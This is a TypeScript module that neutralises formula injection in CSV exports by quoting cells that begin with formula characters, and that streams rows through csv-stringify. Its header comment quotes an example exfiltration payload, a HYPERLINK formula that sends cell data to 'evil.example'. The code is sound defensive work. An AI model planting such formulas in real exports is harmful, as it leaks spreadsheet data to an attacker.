// Every CSV the product exports goes through here (issue 27): a cell a
// spreadsheet would read as a formula (starting with = + - @, a tab or a
// carriage return) is written as text, with a leading apostrophe, so a name
// such as =HYPERLINK("http://evil.example/?"&A2,"Open") is never a live
// formula in the office's spreadsheet. Rows stream through csv-stringify, so a
// large export costs no more memory than a small one.
import { Readable } from 'node:stream';
import { stringify } from 'csv-stringify';

export type CsvCell = string | number | null | undefined;

/** A cell as a spreadsheet may read it safely: a would-be formula quoted as text. */
export function safeCell(value: CsvCell): string | number {
  if (value === null || value === undefined) return '';
  return typeof value === 'string' && /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}

/**
 * A CSV stream of `rows` under `columns` (with a byte-order mark so Excel reads
 * UTF-8), every cell made safe. `onError` hears of a source that failed midway.
 */
export function csvStream(
  columns: string[],
  rows: Iterable<CsvCell[]> | AsyncIterable<CsvCell[]>,
  onError: (error: unknown) => void,
): Readable {
  const source = Readable.from(
    (async function* () {
      for await (const row of rows) yield row.map(safeCell);
    })(),
  );
  const csv = stringify({ header: true, bom: true, columns });
  source.on('error', (error) => {
    onError(error);
    csv.destroy(error as Error);
  });
  source.pipe(csv);
  return csv;
}
